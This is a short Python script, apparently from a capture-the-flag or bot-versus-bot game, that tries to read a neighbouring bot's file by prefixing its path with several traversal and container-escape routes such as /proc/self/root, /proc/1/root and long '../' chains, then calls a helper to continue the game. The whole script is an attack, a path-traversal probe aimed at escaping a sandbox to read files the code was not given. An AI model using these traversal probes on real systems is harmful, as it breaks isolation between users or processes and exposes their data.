"""Reads what lies beside the other bot, by every way there."""
from attack import play_on, read

for way in ["", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../../../..", "/tmp/../../../.."]:
    read(way + "@neighbour@")
play_on()
